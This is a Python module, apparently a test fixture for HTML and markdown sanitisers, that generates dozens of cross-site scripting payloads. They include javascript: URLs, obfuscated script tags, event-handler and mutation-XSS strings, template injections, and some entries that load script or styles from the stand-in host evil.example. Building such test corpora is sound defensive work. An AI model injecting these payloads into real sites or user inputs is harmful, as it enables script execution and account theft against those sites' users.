"""Words that would run a script wherever a page forgot to escape them."""

_RUN = "window.pwned=1"
_URLS = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java&#10;script:{0}",
    "&#106;avascript:{0}", "javascript&colon;{0}", "\x01javascript:{0}", "vbscript:{0}",
    "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "//evil.example/{0}", "blob:{0}", "file:///{0}", "javascript://%0a{0}",
)  # fmt: skip
_TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<script src=//evil.example/x.js></script>",
    "<script\x0c>{0}</script>", "</script><script>{0}</script>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "--><script>{0}</script>", "]]><script>{0}</script>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'//", '"><img src=x onerror={0}>',
    "'><img src=x onerror={0}>", "<img/src/onerror={0}>", "<img src=`x`onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{0}'>x",
    "<math><mi xlink:href='javascript:{0}'>x", "<body onload={0}>", "<iframe onload={0}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'>", "<iframe src='javascript:parent.{0}'>",
    "<object data='javascript:{0}'>", "<embed src='javascript:{0}'>", "<base href='javascript:/'>",
    "<form action='javascript:{0}'><button autofocus>x", "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
    "<details open ontoggle={0}>", "<marquee onstart={0}>", "<video><source onerror={0}>",
    "<audio src=x onerror={0}>", "<link rel=stylesheet href=//evil.example onload={0}>",
    "<meta http-equiv=refresh content='0;javascript:{0}'>", "<style onload={0}></style>",
    "<style>@import'//evil.example'</style>", "<p style='background:url(javascript:{0})'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={0}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={0}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<template><script>{0}</script></template>", "<xmp><p title='</xmp><img src onerror={0}>'>",
    "<a href='x' onclick={0} autofocus tabindex=1 onfocus={0}>x</a>", '" onfocus={0} autofocus x="',
    "' onfocus={0} autofocus x='", "&lt;script&gt;{0}&lt;/script&gt;", "\\u003cscript>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "{{%raw%}}<script>{0}</script>",
    "＜script＞{0}＜/script＞", "<\u0131mg src=x onerror={0}>",
    "<a\u2028href='javascript:{0}'>x</a>",
)  # fmt: skip
_MARKDOWN = (
    "[x]({0})", "![x]({0})", "<{0}>", "[x][1]\n\n[1]: {0}", "[x](<{0}>)", "[![x]({0})]({0})",
)  # fmt: skip

TAGS = tuple(tag.format(_RUN) for tag in _TAGS)
LINKS = tuple(
    mark.format(url.format(_RUN.replace("=", "%3D"))) for url in _URLS for mark in _MARKDOWN
)
HTML_LINKS = tuple(f'<a href="{url.format(_RUN)}">x</a>' for url in _URLS)
EVERYTHING = (*TAGS, *HTML_LINKS, *LINKS)
# One line, short enough for a title or a name of a theme.
SHORT = tuple(vector for vector in (*TAGS, *HTML_LINKS) if len(vector) < 80 and "\n" not in vector)
